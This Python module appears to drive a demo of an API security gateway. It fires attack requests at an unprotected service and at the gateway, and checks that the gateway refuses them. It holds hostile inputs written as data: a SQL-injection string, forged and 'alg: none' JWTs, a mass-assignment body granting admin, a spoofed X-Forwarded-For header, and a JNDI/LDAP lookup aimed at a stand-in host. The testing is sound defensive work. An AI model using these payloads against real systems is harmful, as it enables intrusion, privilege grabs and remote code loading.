"""The walk: the five items of the checklist, then ownership, masking and networks, with real requests both ways."""

from __future__ import annotations

import secrets
import time
from collections.abc import Iterator
from typing import Any

from assay.demo.judging import bare, permitted, refused, said
from assay.demo.rows import Row, Side
from assay.demo.scene import Scene
from assay.demo.transport import plaintext_refused, versions
from assay.domain import IncompleteError

ELSEWHERE = "127.9.9.9"
"""A loopback address outside the partner's networks."""
KNOWN_BAD = "127.66.6.6"
"""A loopback address that the example's block list names, standing for a bad network."""
EVERYBODY = "zz' OR 1=1 --"
WRITES_PER_MINUTE = 10
_MOST = 30
"""Changes after which a limit that has refused none is not going to."""


def walk(scene: Scene) -> Iterator[Row]:
    """Every row, as soon as it is known.

    Raises:
        IncompleteError: the walk's own customers could not be made, so nothing could be shown.
    """
    alice = _customer(scene, "Alice")
    _customer(scene, "Bob")
    yield from _oauth(scene)
    yield from _at_rest(scene, alice)
    yield from _https(scene)
    yield from _validation(scene)
    yield from _limits(scene)
    yield from _ownership(scene)
    yield from _masking(scene)
    yield from _networks(scene)
    yield from _surface(scene)


def canary() -> str:
    """A well-formed account number that nobody else has, to be looked for later."""
    return "IE29AIBK93" + "".join(secrets.choice("0123456789") for _ in range(12))


def _record(name: str, **more: Any) -> dict[str, Any]:
    return {
        "name": f"{name} Demo",
        "email": f"{name.lower()}.{secrets.token_hex(3)}@example.test",
        "phone": "+353 1 555 0100",
        "date_of_birth": "1984-03-12",
        "postcode": "10115",
        "iban": canary(),
        "national_id": "285057800608441",
        "notes": "Prefers to be called in the morning.",
        **more,
    }


def _customer(scene: Scene, name: str) -> dict[str, Any]:
    answer, decision = scene.call("POST", "/customers", who="agent", json=_record(name))
    body = answer.json()
    if answer.status != 201 or not isinstance(body, dict):
        raise IncompleteError(
            f"the walk could not create its customer {name}: {answer.status} by {decision.policy or 'nobody'}: "
            f"{answer.text[:200]}",
            fix="look at the logs of the gateway",
        )
    return body


def _oauth(scene: Scene) -> Iterator[Row]:
    topic = "OAuth 2.0"
    open_to_all = scene.ask("GET", "/customers")
    direct = bare(open_to_all, "every customer", shown="iban" in open_to_all.text)
    yield refused(topic, "list customers with no token", scene.call("GET", "/customers"), 401, direct=direct)
    _, payload, signature = scene.tokens["agent"].split(".")
    altered = scene.tokens["agent"].rsplit(".", 1)[0] + "." + "A" * 10 + signature[10:]
    for attempt, token in (
        ("… with an altered signature", altered),
        ("… with `alg: none`", f"eyJhbGciOiJub25lIn0.{payload}."),
    ):
        headers = {"authorization": f"Bearer {token}"}
        yield refused(topic, attempt, scene.call("GET", "/customers", headers=headers), 401)
    yield permitted(topic, "… with an agent's token", scene.call("GET", "/customers", who="agent"))


def _at_rest(scene: Scene, alice: dict[str, Any]) -> Iterator[Row]:
    topic = "AES-256 at rest"
    plain, sealed = canary(), canary()
    made = scene.ask("POST", "/customers", json=_record("Carl", iban=plain))
    in_clear = made.status == 201 and plain.encode() in scene.stored()
    direct = Side(f"on disk: {plain}" if in_clear else "not found on disk", in_clear)
    answer, decision = scene.call("POST", "/customers", who="agent", json=_record("Dora", iban=sealed))
    disk = scene.stored()
    start = disk.rfind(b"enc:v1:")
    good = answer.status == 201 and start >= 0 and sealed.encode() not in disk and plain.encode() in disk
    shown = disk[start : start + 20].decode("ascii", "replace")
    text = f"on disk: {shown}…" if good else "PLAINTEXT ON DISK"
    yield Row(topic, "attack", "store an IBAN, then read the disk", direct, Side(text, good), decision.policy)

    number = (answer.json() or {}).get("customerId", "")
    back = scene.call("GET", f"/customers/{number}", who="back-office")
    clear = (back[0].json() or {}).get("iban") == sealed
    yield permitted(topic, "… and back, with clearance", back, note="in clear again", shown=clear)
    found = scene.call("GET", "/customers", who="agent", params={"email": alice["email"]})
    hits = len((found[0].json() or {}).get("items", []))
    yield permitted(topic, "find by an encrypted e-mail", found, note=f"{hits} found", shown=hits == 1)


def _https(scene: Scene) -> Iterator[Row]:
    topic = "HTTPS"
    open_line = scene.ask("GET", "/health")
    refused_plain, why = plaintext_refused(scene.gateway)
    direct = bare(open_line, "in plain text")
    yield Row(topic, "attack", "speak plain HTTP", direct, Side(why, refused_plain), "transport_encryption/tls")
    old, modern, spoken = versions(scene.gateway, scene.trust)
    yield Row(topic, "attack", "offer TLS 1.1 at most", None, Side(old.text, old.refused), "transport_encryption/tls")
    answer, decision = scene.call("GET", "/health")
    hsts = "strict-transport-security" in answer.headers
    note = f"{spoken}, HSTS" if hsts else spoken
    yield permitted(topic, "speak modern TLS", (answer, decision), note=note, shown=modern and hsts)


def _validation(scene: Scene) -> Iterator[Row]:
    topic = "input validation"
    leaked = scene.ask("GET", "/customers", params={"search": EVERYBODY})
    items = len((leaked.json() or {}).get("items", []))
    direct = bare(leaked, f"{items} customers leaked", shown=items > 1)
    attack = scene.call("GET", "/customers", who="agent", params={"search": EVERYBODY})
    yield refused(topic, "SQL injection in `search`", attack, 400, 403, direct=direct)
    honest = scene.call("GET", "/customers", who="agent", params={"search": "Müller & Söhne, select a date"})
    yield permitted(topic, "… an honest search with such words", honest)

    target = scene.ask("GET", "/customers").json()["items"][0]["customerId"]
    grab = {"role": "admin", "credit_limit": 1_000_000}
    taken = scene.ask("PATCH", f"/customers/{target}", json=grab)
    direct = bare(taken, "is admin now", shown='"admin"' in taken.text)
    attack = scene.call("PATCH", "/customers/c-1001", who="alice", json=grab)
    yield refused(topic, "make oneself admin (mass assignment)", attack, 400, direct=direct)
    twice = '{"name": "Alice", "name": "Mallory"}'
    json_type = {"content-type": "application/json"}
    attack = scene.call("PATCH", "/customers/c-1001", who="alice", content=twice, headers=json_type)
    yield refused(topic, "say the same key twice", attack, 400)
    attack = scene.call("PATCH", "/customers/c-1001", who="alice", json={"notes": "${jndi:ldap://x.test/a}"})
    yield refused(topic, "expression injection in a note", attack, 400, 403)


def within_limit(passed: int, seconds: float) -> bool:
    """Whether so many changes in so many seconds are what the limit lets pass: what it holds, and what it gave back
    meanwhile, evenly."""
    return WRITES_PER_MINUTE <= passed <= WRITES_PER_MINUTE + int(seconds * WRITES_PER_MINUTE / 60)


def _limits(scene: Scene) -> Iterator[Row]:
    topic = "rate limits"
    note = {"notes": "One more word."}
    began, through = time.monotonic(), [scene.call("PATCH", "/customers/c-1002", who="bob", json=note)]
    while len(through) < WRITES_PER_MINUTE + 3 or (through[-1][0].status == 200 and len(through) < _MOST):
        through.append(scene.call("PATCH", "/customers/c-1002", who="bob", json=note))
    seconds, rush = time.monotonic() - began, len(through)
    unlimited = [scene.ask("PATCH", "/customers/c-1002", json=note).status for _ in range(rush)]
    passed = [answer.status for answer, _ in through].count(200)
    refusals = [decision for answer, decision in through if answer.status == 429]
    decision = refusals[-1] if refusals else through[-1][1]
    good = within_limit(passed, seconds) and len(refusals) == rush - passed > 0 and decision.outcome == "refused"
    text = f"{passed} pass, then 429" if good else f"{passed} OF {rush} PASSED"
    direct = Side(f"all {rush} pass", unlimited.count(200) == rush)
    yield Row(topic, "attack", f"{rush} changes in a row, 10 allowed", direct, Side(text, good), decision.policy)
    other = scene.call("PATCH", "/customers/c-1001", who="alice", json=note)
    yield permitted(topic, "… another caller meanwhile", other, note="not affected")


def _ownership(scene: Scene) -> Iterator[Row]:
    topic = "ownership"
    foreign = scene.ask("GET", "/customers/c-1002")
    direct = bare(foreign, "Bob's record", shown="Bob" in foreign.text)
    yield refused(
        topic, "Alice reads Bob's record", scene.call("GET", "/customers/c-1002", who="alice"), 403, direct=direct
    )
    change = {"name": "Owned by Alice"}
    before = scene.ask("GET", "/customers/c-1002").text
    attack = scene.call("PATCH", "/customers/c-1002", who="alice", json=change)
    untouched = scene.ask("GET", "/customers/c-1002").text == before
    yield refused(topic, "… and changes it", attack, 403, note="refused, unchanged" if untouched else "BUT CHANGED")
    own = scene.call("GET", "/customers/c-1001", who="alice")
    mine = (own[0].json() or {}).get("name") == "Alice Demo"
    yield permitted(topic, "Alice reads her own", own, note="in clear", shown=mine)
    everything = scene.ask("GET", "/exports/customers")
    direct = bare(everything, "everybody's data")
    yield refused(
        topic,
        "an agent exports everybody",
        scene.call("GET", "/exports/customers", who="agent"),
        401,
        403,
        direct=direct,
    )


def _masking(scene: Scene) -> Iterator[Row]:
    topic = "masking"
    answer, decision = scene.call("GET", "/customers/c-1001", who="partner")
    seen = answer.json() or {}
    owner = (scene.call("GET", "/customers/c-1001", who="alice")[0].json()) or {}
    iban, number = str(seen.get("iban", "")), str(seen.get("national_id", ""))
    hidden = answer.status == 200 and owner.get("iban") not in ("", None, iban) and owner.get("national_id") != number
    tail = hidden and iban.endswith(str(owner.get("iban"))[-4:])
    plain = scene.ask("GET", "/customers").json()["items"]
    carl: dict[str, Any] = next((c for c in plain if c["name"].startswith("Carl")), {})
    direct = Side(f"iban {carl.get('iban')}", not str(carl.get("iban", "enc")).startswith("enc"))
    text = f"iban {iban}" if tail else "NOT MASKED AS DECLARED"
    yield Row(topic, "attack", "a partner reads an IBAN", direct, Side(text, bool(tail)), decision.policy)
    yield permitted(
        topic,
        "the owner reads the same",
        scene.call("GET", "/customers/c-1001", who="alice"),
        note=f"iban {owner.get('iban')}",
    )


def _networks(scene: Scene) -> Iterator[Row]:
    topic = "networks"
    yield permitted(topic, "the partner's key, from its network", scene.call("GET", "/customers", who="partner"))
    stolen = scene.call("GET", "/customers", who="partner", source=ELSEWHERE)
    direct = bare(scene.ask("GET", "/customers", source=ELSEWHERE), "no key needed")
    yield refused(topic, "the same key, from elsewhere", stolen, 403, direct=direct)
    forged = {"x-forwarded-for": "203.0.113.7"}
    attack = scene.call("GET", "/customers", who="partner", source=ELSEWHERE, headers=forged)
    yield refused(topic, "… with a forged X-Forwarded-For", attack, 403)
    attack = scene.call("GET", "/customers", who="agent", source=KNOWN_BAD)
    yield refused(topic, "a good token, from a known bad network", attack, 403)


def _surface(scene: Scene) -> Iterator[Row]:
    topic = "surface"
    exposed = scene.ask("GET", "/debug/config")
    direct = bare(exposed, "configuration leaked")
    attack = scene.call("GET", "/debug/config", who="agent")
    yield refused(topic, "an endpoint nobody declared", attack, 404, direct=direct)
    quoted = {"search": "the 'old' address"}
    crash = scene.ask("GET", "/customers", params=quoted)
    direct = Side(said(crash, "stack trace"), crash.status == 500 and "Traceback" in crash.text)
    answer, decision = scene.call("GET", "/customers", who="agent", params=quoted)
    inside = answer.status == 500 and "Traceback" not in answer.text and "sql" not in answer.text.lower()
    side = Side(said(answer, "generic answer" if inside else "LEAKS"), inside)
    yield Row(topic, "attack", "make the service fail, read why", direct, side, decision.policy)
